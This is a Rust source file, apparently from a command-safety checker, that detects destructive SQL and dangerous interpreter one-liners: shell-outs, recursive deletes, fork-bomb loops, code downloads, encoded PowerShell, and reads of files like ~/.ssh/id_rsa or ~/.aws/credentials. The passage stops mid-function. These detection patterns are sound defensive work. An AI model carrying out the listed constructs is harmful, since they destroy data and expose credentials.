//! Text that is code for another language: SQL handed to a database client, and interpreter
//! one-liners (`python -c`, `node -e`, `perl -e`, `ruby -e`, `php -r`) scanned for shell-outs,
//! recursive deletion APIs, file reads and fork loops.
//!
//! Regexes are compiled once per process on first use; a keyword prefilter keeps ordinary
//! one-liners from reaching them.

use regex::Regex;
use std::sync::OnceLock;

/// SQL verbs rules care about, as `sql.statement` `verb` attributes.
pub fn sql_verbs(sql: &str) -> Vec<&'static str> {
    static RES: OnceLock<Vec<(Regex, &'static str)>> = OnceLock::new();
    let lower = sql.to_ascii_lowercase();
    const KEYS: &[&str] = &[
        "drop",
        "truncate",
        "delete",
        "copy",
        "flush",
        "dropdatabase",
        "into outfile",
        "deletemany",
        "remove(",
    ];
    if !KEYS.iter().any(|k| lower.contains(k)) {
        return Vec::new();
    }
    // `DROP/**/DATABASE`, `DROP -- x\nDATABASE`: comments separate words like spaces.
    let lower = if lower.contains("/*") || lower.contains("--") {
        strip_sql_comments(&lower)
    } else {
        lower
    };
    let res = RES.get_or_init(|| {
        let pats: &[(&str, &str)] = &[
            (r"\bdrop\s+(database|schema)\b", "drop_database"),
            (r"\bdropdatabase\s*\(", "drop_database"),
            (r"\bflushall\b", "drop_database"),
            (r"\bflushdb\b", "drop_table"),
            (r"\bdrop\s+table\b", "drop_table"),
            (r"\.drop\s*\(\s*\)", "drop_table"),
            (r"\btruncate\b", "truncate"),
            (r"\bdelete\s+from\s+[\w.`\x22\[\]]+\s*(;|$)", "delete_all"),
            (
                r"\.(deletemany|remove)\s*\(\s*(\{\s*\})?\s*\)",
                "delete_all",
            ),
            (r"\\?\bcopy\b[^;]*\bto\b", "copy_to"),
            (r"\binto\s+outfile\b", "copy_to"),
        ];
        pats.iter()
            .filter_map(|(p, v)| Regex::new(&format!("(?m){p}")).ok().map(|r| (r, *v)))
            .collect()
    });
    let mut out = Vec::new();
    for (re, verb) in res {
        if re.is_match(&lower) && !out.contains(verb) {
            out.push(*verb);
        }
    }
    out
}

/// SQL with its comments replaced by spaces (outside quoted strings).
fn strip_sql_comments(sql: &str) -> String {
    let mut out = String::with_capacity(sql.len());
    let mut chars = sql.chars().peekable();
    let mut quote: Option<char> = None;
    while let Some(c) = chars.next() {
        match quote {
            Some(q) => {
                if c == q {
                    quote = None;
                }
                out.push(c);
            }
            None => match (c, chars.peek()) {
                ('\'' | '"', _) => {
                    quote = Some(c);
                    out.push(c);
                }
                ('/', Some('*')) => {
                    chars.next();
                    let mut prev = ' ';
                    for d in chars.by_ref() {
                        if prev == '*' && d == '/' {
                            break;
                        }
                        prev = d;
                    }
                    out.push(' ');
                }
                ('-', Some('-')) => {
                    for d in chars.by_ref() {
                        if d == '\n' {
                            break;
                        }
                    }
                    out.push('\n');
                }
                _ => out.push(c),
            },
        }
    }
    out
}

/// The language of an interpreter program, if it is one. A Windows executable run from WSL
/// (`pwsh.exe`, `PowerShell.exe`) is the program it names.
pub fn interpreter(program: &str) -> Option<&'static str> {
    let windows = program
        .len()
        .checked_sub(4)
        .filter(|&i| program.is_char_boundary(i) && program[i..].eq_ignore_ascii_case(".exe"))
        .map(|i| program[..i].to_ascii_lowercase());
    let p = windows
        .as_deref()
        .unwrap_or(program)
        .trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match p {
        "python" | "pypy" | "python3" | "python2" | "py" => "python",
        "node" | "nodejs" | "bun" | "deno" => "node",
        "perl" => "perl",
        "ruby" | "jruby" => "ruby",
        "php" => "php",
        "lua" | "luajit" => "lua",
        "Rscript" | "R" => "r",
        "pwsh" | "powershell" | "pwsh-preview" => "powershell",
        "julia" => "julia",
        "tclsh" | "wish" | "expect" => "tcl",
        _ => return None,
    })
}

fn short_cluster(a: &str) -> bool {
    a.len() > 1
        && !a.starts_with("--")
        && !a.starts_with("-M")
        && !a.starts_with("-m")
        && !a.starts_with("-I")
        && a[1..].chars().all(|c| c.is_ascii_alphabetic())
}

/// Shell commands an awk program runs.
#[derive(Debug, Default, PartialEq)]
pub struct AwkCalls {
    /// Literal command strings (`system("…")`, `print | "…"`, `"…" | getline`).
    pub shell: Vec<String>,
    /// A command built at run time (`system("rm " $1)`, `print | "sh"`).
    pub dynamic: bool,
}

/// Scans an awk program for the commands it runs.
pub fn scan_awk(prog: &str) -> AwkCalls {
    let mut calls = AwkCalls::default();
    if !(prog.contains("system") || prog.contains('|')) {
        return calls;
    }
    static RES: OnceLock<Option<(Regex, Regex, Regex)>> = OnceLock::new();
    let Some((system, pipe_to, getline)) = RES.get_or_init(|| {
        Some((
            Regex::new(r#"\bsystem\s*\(\s*("((?:[^"\\]|\\.)*)"\s*\)|)"#).ok()?,
            Regex::new(r#"\|&?\s*("((?:[^"\\]|\\.)*)"|[A-Za-z_(])"#).ok()?,
            Regex::new(r#""((?:[^"\\]|\\.)*)"\s*\|&?\s*getline"#).ok()?,
        ))
    }) else {
        calls.dynamic = true;
        return calls;
    };
    for c in system.captures_iter(prog) {
        match c.get(2) {
            Some(m) => calls.shell.push(m.as_str().replace("\\\"", "\"")),
            None => calls.dynamic = true,
        }
    }
    let mut consumed = Vec::new();
    for c in getline.captures_iter(prog) {
        if let (Some(all), Some(m)) = (c.get(0), c.get(1)) {
            consumed.push(all.end());
            calls.shell.push(m.as_str().replace("\\\"", "\""));
        }
    }
    for c in pipe_to.captures_iter(prog) {
        let Some(all) = c.get(0) else { continue };
        if prog[all.end()..].trim_start().starts_with("getline")
            || consumed
                .iter()
                .any(|e| *e >= all.start() && *e <= all.end())
            || prog[..all.start()].ends_with('|')
            || prog[all.end()..].starts_with('|')
        {
            continue;
        }
        match c.get(2) {
            // `print … | "sort -u"`: a command reading awk's output.
            Some(m) => {
                let cmd = m.as_str().replace("\\\"", "\"");
                let head = cmd.split_whitespace().next().unwrap_or("");
                if super::programs::SHELLS.contains(&head) || interpreter(head).is_some() {
                    calls.dynamic = true;
                } else {
                    calls.shell.push(cmd);
                }
            }
            None => calls.dynamic = true,
        }
    }
    calls
}

/// Interpreter code that downloads something (to run it, when it also evals).
pub fn fetches_code(code: &str) -> bool {
    const APIS: &[&str] = &[
        "urlopen",
        "urllib",
        "requests.get",
        "httpx.get",
        "http.get(",
        "https.get(",
        "fetch(",
        "axios",
        "Net::HTTP",
        "LWP::",
        "open-uri",
        "URI.open",
        "HTTP::Tiny",
        "curl_exec",
        "file_get_contents('http",
        "file_get_contents(\"http",
        "Invoke-WebRequest",
        "Invoke-RestMethod",
        "iwr ",
        "irm ",
        "DownloadString",
        "Net.WebClient",
    ];
    APIS.iter().any(|a| code.contains(a))
}

/// Where an interpreter's code comes from.
#[derive(Debug, PartialEq)]
pub enum CodeSource {
    /// Inline code (`-c`, `-e`, ...): the strings.
    Inline(Vec<String>),
    /// A script file, a module, or a REPL-less invocation: nothing to scan.
    Script,
    /// Code read from stdin.
    Stdin,
}

/// What a `pwsh`/`powershell` parameter does to finding the code it runs.
#[derive(Debug, Clone, Copy, PartialEq)]
enum PwshParam {
    Switch,
    /// Takes the next word as its value.
    Value,
    /// `-Command`: the rest of the argv is the code.
    Command,
    /// `-EncodedCommand`: the next word is the code, base64 of UTF-16LE text.
    Encoded,
    /// `-File`: a script (or `-`, stdin).
    File,
}

/// The parameters of `pwsh` (PowerShell 7) and `powershell` (Windows PowerShell 5.1), with
/// the shortest prefix each accepts: any longer prefix of the name is the parameter too
/// (`-NoP`, `-Exec`, `-Enc`, `-comm`), and some have aliases. The first match in this order
/// wins, as in PowerShell's own parser (`-e` is `-EncodedCommand`).
const PWSH_PARAMS: &[(&str, &str, &[&str], PwshParam)] = &[
    ("command", "c", &[], PwshParam::Command),
    ("configurationname", "config", &[], PwshParam::Value),
    (
        "configurationfile",
        "configurationfile",
        &[],
        PwshParam::Value,
    ),
    ("custompipename", "custompipename", &[], PwshParam::Value),
    ("encodedcommand", "e", &["ec"], PwshParam::Encoded),
    ("encodedarguments", "encodeda", &["ea"], PwshParam::Value),
    ("executionpolicy", "ex", &["ep"], PwshParam::Value),
    ("file", "f", &[], PwshParam::File),
    ("help", "h", &["?"], PwshParam::Switch),
    ("interactive", "i", &[], PwshParam::Switch),
    ("inputformat", "inp", &["if"], PwshParam::Value),
    ("login", "l", &[], PwshParam::Switch),
    ("mta", "mta", &[], PwshParam::Switch),
    ("noexit", "noe", &[], PwshParam::Switch),
    ("nologo", "nol", &[], PwshParam::Switch),
    ("noninteractive", "noni", &[], PwshParam::Switch),
    (
        "noprofileloadtime",
        "noprofileloadtime",
        &[],
        PwshParam::Switch,
    ),
    ("noprofile", "nop", &[], PwshParam::Switch),
    ("outputformat", "o", &["of"], PwshParam::Value),
    ("psconsolefile", "psconsolefile", &[], PwshParam::Value),
    ("settingsfile", "settings", &[], PwshParam::Value),
    ("sshservermode", "sshs", &[], PwshParam::Switch),
    ("sta", "sta", &[], PwshParam::Switch),
    ("version", "v", &[], PwshParam::Switch),
    ("windowstyle", "w", &[], PwshParam::Value),
    ("workingdirectory", "wo", &["wd"], PwshParam::Value),
];

/// The `pwsh` parameter an argument names (`-NoP`, `--noprofile`, `/enc`), if it is one.
fn pwsh_param(arg: &str) -> Option<PwshParam> {
    let name = arg
        .strip_prefix("--")
        .or_else(|| arg.strip_prefix('-'))
        .or_else(|| arg.strip_prefix('/').filter(|n| !n.contains('/')))?;
    if name.is_empty() {
        return None;
    }
    let name = name.to_ascii_lowercase();
    PWSH_PARAMS
        .iter()
        .find(|(full, shortest, aliases, _)| {
            aliases.contains(&name.as_str())
                || (full.starts_with(name.as_str()) && name.len() >= shortest.len())
        })
        .map(|(.., kind)| *kind)
}

/// The bytes of base64 text, blanks and line breaks in it ignored.
fn base64_bytes(encoded: &str) -> Option<Vec<u8>> {
    let compact: String = encoded.chars().filter(|c| !c.is_whitespace()).collect();
    crate::signals::secrets::b64decode(&compact)
}

/// Whether decoded text is code a shell would run: not blank, and no control characters but
/// line breaks and tabs.
fn runnable(text: &str) -> bool {
    !text.trim().is_empty()
        && !text
            .chars()
            .any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
}

/// The text base64 `encoded` decodes to (`echo cm0g… | base64 -d`), when it is UTF-8 a shell
/// would run.
pub fn base64_text(encoded: &str) -> Option<String> {
    let text = String::from_utf8(base64_bytes(encoded)?).ok()?;
    runnable(&text).then_some(text)
}

/// The code of `pwsh -EncodedCommand VALUE`: base64 of UTF-16LE text. `None` when it is not.
pub fn pwsh_decode(value: &str) -> Option<String> {
    let bytes = base64_bytes(value)?;
    if bytes.is_empty() || bytes.len() % 2 != 0 {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|b| u16::from_le_bytes([b[0], b[1]]))
        .collect();
    let text = String::from_utf16(&units).ok()?;
    let text = text.trim_start_matches('\u{feff}');
    runnable(text).then(|| text.to_string())
}

/// Where `pwsh`/`powershell` takes its code from. An encoded command is decoded and read like
/// `-Command`; one that does not decode is code that cannot be read, and so is treated as
/// code that runs whatever it likes.
fn powershell_source(args: &[String]) -> CodeSource {
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        let Some(param) = pwsh_param(a) else {
            // The first operand is a script to run (`pwsh ./build.ps1`), or `-` for stdin.
            return if a == "-" {
                CodeSource::Stdin
            } else {
                CodeSource::Script
            };
        };
        match param {
            PwshParam::Command => {
                // `pwsh -c Remove-Item -Recurse x`: the rest of the argv is the code.
                return match args.get(i + 1).map(String::as_str) {
                    Some("-") | None => CodeSource::Stdin,
                    Some(_) => CodeSource::Inline(vec![args[i + 1..].join(" ")]),
                };
            }
            PwshParam::Encoded => {
                let code = args.get(i + 1).and_then(|v| pwsh_decode(v));
                return CodeSource::Inline(vec![
                    code.unwrap_or_else(|| "Invoke-Expression $encoded".into())
                ]);
            }
            PwshParam::File => {
                return match args.get(i + 1).map(String::as_str) {
                    Some("-") => CodeSource::Stdin,
                    _ => CodeSource::Script,
                };
            }
            PwshParam::Value => i += 2,
            PwshParam::Switch => i += 1,
        }
    }
    CodeSource::Stdin
}

/// Finds the code an interpreter runs from its arguments.
pub fn code_source(lang: &str, args: &[String]) -> CodeSource {
    if lang == "powershell" {
        return powershell_source(args);
    }
    let mut inline = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if a == "--" {
            return if inline.is_empty() {
                match args.get(i + 1) {
                    Some(s) if s != "-" => CodeSource::Script,
                    _ => CodeSource::Stdin,
                }
            } else {
                CodeSource::Inline(inline)
            };
        }
        if a == "-" {
            return if inline.is_empty() {
                CodeSource::Stdin
            } else {
                CodeSource::Inline(inline)
            };
        }
        if !a.starts_with('-') {
            if lang == "node" && a == "eval" {
                // `deno eval CODE`
                if let Some(c) = args.get(i + 1) {
                    inline.push(c.clone());
                }
                return CodeSource::Inline(inline);
            }
            return if inline.is_empty() {
                CodeSource::Script
            } else {
                CodeSource::Inline(inline)
            };
        }
        let code_flag = match lang {
            "python" => {
                if a == "-m" {
                    return CodeSource::Script;
                }
                a == "-c" || (!a.starts_with("--") && a.ends_with('c') && a.len() > 2)
            }
            "node" => matches!(a, "-e" | "--eval" | "-p" | "--print" | "-pe"),
            // Clustered switches (`-e`, `-lne`, `-wE`); `-MFile::Path=remove_tree` is a
            // module import that merely ends in `e`.
            "perl" => short_cluster(a) && (a.ends_with('e') || a.ends_with('E')),
            "ruby" => short_cluster(a) && a.ends_with('e') && !a.starts_with("-r"),
            "php" => a == "-r",
            "lua" | "r" | "julia" => a == "-e",
            "tcl" => a == "-c",
            _ => false,
        };
        if code_flag {
            if let Some(c) = args.get(i + 1) {
                inline.push(c.clone());
            }
            i += 2;
            if lang == "python" {
                return CodeSource::Inline(inline);
            }
            continue;
        }
        if let Some(v) = a
            .strip_prefix("--eval=")
            .or_else(|| a.strip_prefix("--print="))
        {
            inline.push(v.to_string());
        }
        // Options with a value.
        let takes = match lang {
            "python" => matches!(a, "-W" | "-X" | "-Q"),
            "node" => matches!(
                a,
                "-r" | "--require" | "--import" | "--loader" | "--input-type"
            ),
            "perl" => matches!(a, "-I" | "-M") && a.len() == 2,
            "ruby" => matches!(a, "-I" | "-r" | "-C") && a.len() == 2,
            "php" => matches!(a, "-d" | "-c" | "-f"),
            "lua" => a == "-l",
            "julia" => matches!(a, "-L" | "--load" | "-t" | "--threads" | "-J" | "--project"),
            _ => false,
        };
        if lang == "php" && a == "-f" {
            return CodeSource::Script;
        }
        i += if takes { 2 } else { 1 };
    }
    if inline.is_empty() {
        CodeSource::Stdin
    } else {
        CodeSource::Inline(inline)
    }
}

/// What an interpreter one-liner does that the policy cares about.
#[derive(Debug, Default, PartialEq)]
pub struct CodeFacts {
    /// Shell command lines it runs (`os.system("…")`, backticks).
    pub shell: Vec<String>,
    /// argv lists it runs (`subprocess.run(["rm", "-rf", "x"])`).
    pub argv: Vec<Vec<String>>,
    /// A process is spawned from a non-literal: unknowable.
    pub dynamic_exec: bool,
    /// Recursive deletions: the literal target when there is one.
    pub recursive_deletes: Vec<Option<String>>,
    pub reads: Vec<String>,
    pub writes: Vec<String>,
    pub fork_bomb: bool,
}

const CODE_KEYS: &[&str] = &[
    "system",
    "popen",
    "subprocess",
    "exec",
    "spawn",
    "rmtree",
    "rm",
    "remove",
    "fork",
    "open",
    "read",
    "`",
    "%x",
    "passthru",
    "child_process",
    "rimraf",
    "unlink",
    "write",
];

/// Scans interpreter code.
pub fn scan_code(code: &str, lang: &str) -> CodeFacts {
    scan_code_at(code, lang, 0)
}

fn scan_code_at(code: &str, lang: &str, depth: usize) -> CodeFacts {
    let mut f = scan_calls(code, lang, depth);
    for p in named_paths(code) {
        if !f.reads.contains(&p) && !f.writes.contains(&p) {
            f.reads.push(p);
        }
    }
    f
}

/// Most paths [`named_paths`] takes from one piece of code.
const NAMED_PATHS_MAX: usize = 64;

/// Paths the code names in string literals, whatever call they are handed to: read as reads,
/// since code that names a file may open it in ways no pattern lists
/// (`open(os.path.expanduser('~/.ssh/id_rsa'))`, `os.listdir('/root/.ssh')`). A literal is a
/// path when it starts with `/` or `~/` and holds no blank. Code that refers to the home
/// directory (`expanduser`, `Path.home()`, `homedir()`, `Dir.home`, `$HOME`) may build a
/// path from pieces (`File.join(Dir.home, ".aws", "credentials")`): consecutive literals that
/// look like path pieces are joined under `~/`, each prefix a path of its own.
fn named_paths(code: &str) -> Vec<String> {
    const HOME_REFS: &[&str] = &[
        "expanduser",
        "home()",
        "homedir",
        "Dir.home",
        "HOME",
        "USERPROFILE",
        "getpwuid",
        "home_dir",
    ];
    let piece = |l: &str| {
        !l.is_empty()
            && l.len() <= 4096
            && !l
                .bytes()
                .any(|b| b.is_ascii_whitespace() || b.is_ascii_control())
            && !l.contains(['*', '?', '{', '$', '%', ':', ',', ';', '=', '(', '|'])
    };
    let mut out: Vec<String> = Vec::new();
    let home = HOME_REFS.iter().any(|h| code.contains(h));
    let mut joined: Option<String> = None;
    for l in literals(code) {
        if out.len() >= NAMED_PATHS_MAX {
            break;
        }
        if !piece(&l) {
            joined = None;
            continue;
        }
        if (l.starts_with('/') || l.starts_with("~/")) && l.trim_matches(['/', '~']).len() >= 2 {
            out.push(l.clone());
        }
        if !home {
            continue;
        }
        joined = match joined.take() {
            _ if l == "~" || l.starts_with("~/") => Some(l),
            Some(j) => Some(format!(
                "{}/{}",
                j.trim_end_matches('/'),
                l.trim_start_matches('/')
            )),
            None if l.starts_with('.') || l.starts_with('/') => {
                Some(format!("~/{}", l.trim_start_matches('/')))
            }
            None => None,
        };
        if let Some(j) = joined.as_ref().filter(|j| j.len() > 2 && !out.contains(j)) {
            out.push(j.clone());
        }
    }
    out
}

/// Scans interpreter code for the calls it makes.
fn scan_calls(code: &str, lang: &str, depth: usize) -> CodeFacts {
    let mut f = CodeFacts::default();
    match lang {
        "powershell" => return scan_powershell(code),
        "tcl" => return scan_tcl(code),
        _ => {}
    }
    if !CODE_KEYS.iter().any(|k| code.contains(k)) {
        return f;
    }
    static RES: OnceLock<Option<CodeRes>> = OnceLock::new();
    let Some(r) = RES.get_or_init(CodeRes::build) else {
        // Patterns failed to build: be conservative.
        f.dynamic_exec = true;
        return f;
    };
    // `import subprocess as s; s.run(…)`, `const {rmSync: x} = require('fs')`: calls through
    // names bound to the modules are written back as the modules' own calls.
    let normalized = normalize_aliases(code, lang);
    let code = normalized.as_deref().unwrap_or(code);
    // Text inside string literals (and comments) is data: a call named there does not run.
    let data = data_spans(code, lang);
    let is_code = |at: usize| !data.get(at).copied().unwrap_or(false);
    if r.fork.find_iter(code).any(|m| is_code(m.start())) {
        f.fork_bomb = true;
    }
    for m in r.rmtree.find_iter(code).filter(|m| is_code(m.start())) {
        let tail = &code[m.end()..];
        let recursive_needed = lang == "node" && !m.as_str().contains("rimraf");
        let call = call_args(tail);
        if recursive_needed && !(call.contains("recursive") && call.contains("true")) {
            continue;
        }
        f.recursive_deletes.push(first_literal(call));
    }
    if lang == "python"
        && code.contains("walk(")
        && code.find("walk(").is_some_and(is_code)
        && (code.contains("remove(") || code.contains("unlink(") || code.contains("rmdir("))
    {
        // `for r, _, fs in os.walk(D): os.remove(…)`: a hand-written recursive delete.
        if let Some(i) = code.find("walk(") {
            f.recursive_deletes
                .push(first_literal(call_args(&code[i + 5..])));
        }
    }
    for m in r.shellout.find_iter(code).filter(|m| is_code(m.start())) {
        if lang == "node" && !m.as_str().ends_with('(') {
            // `const {execSync} = require(…)`: a name, not a call.
            continue;
        }
        let name = m
            .as_str()
            .trim_end_matches(|c: char| c == '(' || c.is_whitespace());
        let tail = &code[m.end()..];
        let call = call_args(tail);
        let trimmed = call.trim_start();
        if lang == "python" && matches!(name, "exec" | "eval") {
            // `exec("import os; os.system(…)")`: a literal is more code to read.
            match leading_literal(trimmed) {
                Some(_) if depth < 2 => {
                    let inner = escaped_literal(trimmed).unwrap_or_default();
                    merge(&mut f, scan_code_at(&inner, lang, depth + 1));
                }
                _ => f.dynamic_exec = true,
            }
            continue;
        }
        let shell_string = (name.contains("system") && !name.contains("system2"))
            || name.ends_with("execute")
            || name.contains("popen")
            || name.contains("getoutput")
            || name.contains("execSync")
            || name.contains("shell_exec")
            || name.contains("passthru")
            || (name.ends_with("exec") && lang == "node")
            || call.contains("shell=True")
            || call.contains("shell: true");
        if trimmed.starts_with('[') {
            let list = trimmed.split(']').next().unwrap_or("");
            let items = literals(list);
            if items.is_empty() {
                f.dynamic_exec = true;
            } else if shell_string && items.len() == 1 {
                f.shell.push(items[0].clone());
            } else {
                f.argv.push(items);
            }
        } else if let Some(lit) = leading_literal(trimmed) {
            if shell_string || lang == "perl" || lang == "ruby" || lang == "php" {
                // Perl/Ruby `system("rm -rf x")` with one string goes through a shell;
                // with several strings it is an argv.
                let rest = literals(call);
                if rest.len() > 1 && (!shell_string || matches!(lang, "perl" | "ruby")) {
                    f.argv.push(rest);
                } else {
                    f.shell.push(lit);
                }
            } else if lang == "r" {
                // `system2("rm", c("-rf", "x"))`
                f.argv.push(literals(call));
            } else {
                // `spawn("rm", ["-rf", "x"])`, `execFileSync("rm", [...])`
                let mut argv = vec![lit];
                if let Some(open) = call.find('[') {
                    argv.extend(literals(call[open..].split(']').next().unwrap_or("")));
                }
                f.argv.push(argv);
            }
        } else {
            f.dynamic_exec = true;
        }
    }
    if lang == "r" || lang == "julia" {
        // `unlink(d, recursive = TRUE)`, `rm(d; recursive=true)`
        for m in r
            .recursive_call
            .find_iter(code)
            .filter(|m| is_code(m.start()))
        {
            // Julia separates keyword arguments with `;` inside the parentheses.
            let call = code[m.end()..].split(')').next().unwrap_or("");
            let lower = call.to_ascii_lowercase();
            if lower.contains("recursive") && (lower.contains("true") || lower.contains("= t")) {
                f.recursive_deletes.push(first_literal(call));
            }
        }
    }
    if matches!(lang, "perl" | "ruby" | "php" | "julia") {
        for c in r.backtick.captures_iter(code) {
            if let Some(m) = c.get(1).or_else(|| c.get(2)).or_else(|| c.get(3)) {
                f.shell.push(m.as_str().to_string());
            }
        }
    }
    for c in r.read.captures_iter(code) {
        if c.get(0).is_some_and(|m| !is_code(m.start())) {
            continue;
        }
        let mode = c.get(2).map(|m| m.as_str()).unwrap_or("");
        if let Some(p) = c.get(1) {
            if mode.contains('w') || mode.contains('a') {
                f.writes.push(p.as_str().to_string());
            } else {
                f.reads.push(p.as_str().to_string());
            }
        }
    }
    f
}

struct CodeRes {
    fork: Regex,
    rmtree: Regex,
    shellout: Regex,
    backtick: Regex,
    read: Regex,
    recursive_call: Regex,
}

impl CodeRes {
    fn build() -> Option<CodeRes> {
        Some(CodeRes {
            fork: Regex::new(
                r"fork\s*(\(\s*\))?\s*while\s*fork|while\s*[(:]?\s*(true|1|True)\s*\)?\s*[:{]?\s*(os\.|Process\.|pcntl_)?fork|loop\s*\{\s*fork|\bfork\s*\(?\)?\s*until\s*false|(for|while)\s*\(\s*;\s*;\s*\)\s*\{?\s*(pcntl_)?fork",
            )
            .ok()?,
            rmtree: Regex::new(
                r"\b(shutil\.rmtree|rmtree|remove_tree|FileUtils\.(rm_rf|rm_r|remove_dir|remove_entry_secure|remove_entry|rmtree)|rimraf(\.sync)?|fs(\.promises)?\.(rmSync|rm|rmdirSync|rmdir)|rmSync|rmdirSync|Deno\.removeSync|Deno\.remove)\s*\(?",
            )
            .ok()?,
            shellout: Regex::new(
                r"\b(os\.system|os\.popen|os\.execute|io\.popen|os\.exec\w*|subprocess\.(run|call)|Bun\.spawn(Sync)?|Deno\.Command|system2|(\w+\.)?(check_call|check_output|Popen|getoutput|getstatusoutput)|commands\.getoutput|(child_process\.)?(execSync|execFileSync|spawnSync|spawn|execFile|exec)|system|shell_exec|passthru|proc_open|popen|IO\.popen|Open3\.\w+|Kernel\.(system|exec|spawn)|Process\.spawn)\s*\(?",
            )
            .ok()?,
            backtick: Regex::new(r"`([^`]+)`|%x\(([^)]*)\)|%x\{([^}]*)\}").ok()?,
            recursive_call: Regex::new(r"\b(unlink|rm)\s*\(").ok()?,
            read: Regex::new(
                r#"(?:\bopen|readFileSync|readFile|File\.read|File\.open|IO\.read|file_get_contents|Path|read_text|read_bytes)\s*\(\s*['"]([^'"]+)['"]\s*(?:,\s*['"]([rwab+]+)['"])?"#,
            )
            .ok()?,
        })
    }
}

/// The argument text of a call: up to the matching `)` (or the line end without parens).
fn call_args(tail: &str) -> &str {
    let mut level = 0i32;
    let mut quote: Option<char> = None;
    for (i, c) in tail.char_indices() {
        match quote {
            Some(q) => {
                if c == q {
                    quote = None;
                }
            }
            None => match c {
                '\'' | '"' => quote = Some(c),
                '(' | '[' | '{' => level += 1,
                ')' | ']' | '}' => {
                    if level == 0 {
                        return &tail[..i];
                    }
                    level -= 1;
                }
                ';' | '\n' if level == 0 => return &tail[..i],
                _ => {}
            },
        }
    }
    tail
}

fn leading_literal(s: &str) -> Option<String> {
    let s = s.trim_start();
    let s = s.strip_prefix('f').unwrap_or(s);
    let q = s.chars().next().filter(|c| matches!(c, '\'' | '"'))?;
    let body = &s[1..];
    let end = body.find(q)?;
    Some(body[..end].to_string())
}

fn first_literal(s: &str) -> Option<String> {
    literals(s).into_iter().next()
}

/// String literals in source text, in order (single or double quoted, no escapes).
fn literals(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = s.char_indices();
    while let Some((_, c)) = chars.next() {
        if c == '\'' || c == '"' {
            let mut lit = String::new();
            for (_, d) in chars.by_ref() {
                if d == c {
                    break;
                }
                lit.push(d);
            }
            out.push(lit);
        }
    }
    out
}

/// Adds what a nested piece of code does to the facts of the code around it.
fn merge(f: &mut CodeFacts, inner: CodeFacts) {
    f.shell.extend(inner.shell);
    f.argv.extend(inner.argv);
    f.dynamic_exec |= inner.dynamic_exec;
    f.recursive_deletes.extend(inner.recursive_deletes);
    f.reads.extend(inner.reads);
    f.writes.extend(inner.writes);
    f.fork_bomb |= inner.fork_bomb;
}

/// The string literal `s` starts with (after blanks), backslash escapes honoured and removed.
fn escaped_literal(s: &str) -> Option<String> {
    let mut chars = s.trim_start().chars();
    let q = chars.next().filter(|c| matches!(c, '\'' | '"'))?;
    let mut out = String::new();
    while let Some(c) = chars.next() {
        match c {
            '\\' => out.extend(chars.next()),
            c if c == q => return Some(out),
            c => out.push(c),
        }
    }
    None
}

/// For each byte of `code`, whether it is data: inside a string literal (its quotes
/// included) or a comment. Backticks are commands in Perl, Ruby, PHP and Julia, strings in
/// JavaScript.
fn data_spans(code: &str, lang: &str) -> Vec<bool> {
    let b = code.as_bytes();
    let mut data = vec![false; b.len()];
    let hash_comments = matches!(lang, "python" | "ruby" | "r");
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let triple = lang == "python"
            && (c == b'"' || c == b'\'')
            && b.get(i + 1) == Some(&c)
            && b.get(i + 2) == Some(&c);
        if triple {
            let end = (i + 3..b.len().saturating_sub(2))
                .find(|&j| b[j] == c && b[j + 1] == c && b[j + 2] == c)
                .map_or(b.len(), |j| j + 3);
            data[i..end].iter_mut().for_each(|d| *d = true);
            i = end;
            continue;
        }
        if c == b'"' || c == b'\'' || (c == b'`' && lang == "node") {
            let mut j = i + 1;
            while j < b.len() && b[j] != c {
                if b[j] == b'\\' {
                    j += 1;
                }
                j += 1;
            }
            let end = (j + 1).min(b.len());
            data[i..end].iter_mut().for_each(|d| *d = true);
            i = end;
            continue;
        }
        let comment = (hash_comments && c == b'#')
            || (lang == "node" && c == b'/' && b.get(i + 1) == Some(&b'/'));
        if comment {
            let end = (i..b.len()).find(|&j| b[j] == b'\n').unwrap_or(b.len());
            data[i..end].iter_mut().for_each(|d| *d = true);
            i = end;
            continue;
        }
        i += 1;
    }
    data
}

/// Modules whose functions delete trees or run processes, by the names code imports them as.
const ALIASED_MODULES: &[&str] = &[
    "os",
    "shutil",
    "subprocess",
    "pty",
    "commands",
    "fs",
    "fs.promises",
    "child_process",
];

/// Rewrites calls made through names bound to [`ALIASED_MODULES`] (or their functions) as
/// calls of the modules themselves. `None` when the code binds no such name.
fn normalize_aliases(code: &str, lang: &str) -> Option<String> {
    if !matches!(lang, "python" | "node") {
        return None;
    }
    static RES: OnceLock<Option<[Regex; 7]>> = OnceLock::new();
    let res = RES.get_or_init(|| {
        Some([
            // Python: `import X as Y`
            Regex::new(r"\bimport\s+([\w., ]+)").ok()?,
            // Python: `from X import a as b, c`
            Regex::new(r"\bfrom\s+([\w.]+)\s+import\s+([\w\s,]+)").ok()?,
            // `__import__('X')`, `importlib.import_module('X')`, `require('X')`, `import('X')`
            Regex::new(
                r#"(?:__import__|importlib\.import_module|require|\bimport)\s*\(\s*['"](?:node:)?([\w/]+)['"]\s*\)"#,
            )
            .ok()?,
            // JS: `const X = fs.promises` (after the rewrite above)
            Regex::new(r"\b(?:const|let|var)\s+(\w+)\s*=\s*([\w.]+)").ok()?,
            // JS: `const {a: b, c} = fs`
            Regex::new(r"\b(?:const|let|var)\s*\{([^}]*)\}\s*=\s*([\w.]+)").ok()?,
            // JS: `import {a as b} from 'X'`, `import * as X from 'X'`, `import X from 'X'`
            Regex::new(
                r#"\bimport\s+(?:\{([^}]*)\}|\*\s+as\s+(\w+)|(\w+))\s+from\s+['"](?:node:)?([\w/]+)['"]"#,
            )
            .ok()?,
            // JS: `fs.then(f => f.rmSync(…))`
            Regex::new(r"([\w.]+)\.then\(\s*\(?\s*(\w+)\s*\)?\s*=>").ok()?,
        ])
    });
    let [import_as, from_import, dynamic, js_assign, js_destructure, js_import, js_then] =
        res.as_ref()?;
    let module = |m: &str| m.replace('/', ".");
    let known = |m: &str| ALIASED_MODULES.contains(&m);
    let original = code;
    let mut code = dynamic
        .replace_all(code, |c: &regex::Captures| module(&c[1]))
        .into_owned();
    // (name, what it stands for)
    let mut names: Vec<(String, String)> = Vec::new();
    for c in import_as.captures_iter(&code) {
        for item in c[1].split(',') {
